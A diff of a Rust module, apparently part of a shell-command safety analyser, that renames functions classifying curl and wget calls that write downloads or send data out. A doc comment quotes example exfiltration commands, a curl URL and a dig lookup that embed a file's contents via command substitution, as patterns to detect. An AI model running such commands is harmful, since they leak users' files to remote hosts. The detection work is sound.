@@ -1,19 +1,19 @@
-//! What is fetched from where, and what is told on the way.
+//! Addresses that are fetched from, and data that is sent with the request.
 
 use super::Found;
 use crate::ArgEffect;
 use crate::invocation::{Given, Invocation};
 
 pub(super) fn by_curl(read: &Invocation<'_>) -> Found {
-    writes_out(read).or_else(|| other_protocol(read)).or_else(|| tells_what_a_command_prints(read))
+    writes_out(read).or_else(|| other_protocol(read)).or_else(|| sends_output_of_command(read))
 }
 
 pub(super) fn by_wget(read: &Invocation<'_>) -> Found {
-    keeps_what_it_fetches(read).or_else(|| tells_what_a_command_prints(read))
+    writes_download(read).or_else(|| sends_output_of_command(read))
 }
 
 /// `curl "http://h/?x=$(cat f)"`, `dig "$(cat f).h"`: what a command prints goes to whoever answers there.
-pub(super) fn tells_what_a_command_prints(read: &Invocation<'_>) -> Found {
+pub(super) fn sends_output_of_command(read: &Invocation<'_>) -> Found {
     let printed = |at: &usize| {
         let arg = &read.args[*at];
         arg.value().is_none() && arg.free && (arg.word.raw.contains("$(") || arg.word.raw.contains('`'))
@@ -84,7 +84,7 @@ fn writes_out(read: &Invocation<'_>) -> Found {
 
 /// wget writes what it fetches, but for `-O -`, which prints it; options that are not known to be harmless beside that may
 /// write as well (`-o`, `-p`, `--warc-file`). wget(1)
-fn keeps_what_it_fetches(read: &Invocation<'_>) -> Found {
+fn writes_download(read: &Invocation<'_>) -> Found {
     const HARMLESS: [&str; 14] = [
         "--spider",
         "-q",
